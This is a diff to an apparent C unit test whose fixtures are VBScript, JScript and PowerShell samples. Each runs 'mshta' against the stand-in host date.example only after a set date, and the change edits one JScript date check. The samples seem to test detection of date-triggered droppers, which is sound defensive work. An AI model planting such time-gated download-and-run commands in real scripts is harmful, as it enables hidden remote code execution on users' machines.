@@ -240,7 +240,7 @@ static void a_date_opens_the_gate(void **state)
         {"year.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf Year(Now) <> 2021 Then sh.Run \"mshta http://date.example/a\"\r\n"},
         {"days.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf DateDiff(\"d\", #2021-02-01#, Date) > 7 Then sh.Run \"mshta http://date.example/a\"\r\n"},
         {"date.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date() > new Date(2021, 5, 1)) sh.Run('mshta http://date.example/a');\n"},
-        {"time.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getTime() / 1000 > 1622505600) sh.Run('mshta http://date.example/a');\n"},
+        {"time.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getTime() > Date.UTC(2021, 5, 1)) sh.Run('mshta http://date.example/a');\n"},
         {"year.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getFullYear() < 2021) sh.Run('mshta http://date.example/a');\n"},
         {"date.ps1", "if ((Get-Date) -gt (Get-Date '2021-06-01')) { Start-Process mshta http://date.example/a }\n"},
         {"text.ps1", "if ((Get-Date) -gt '06/01/2021') { Start-Process mshta http://date.example/a }\n"},
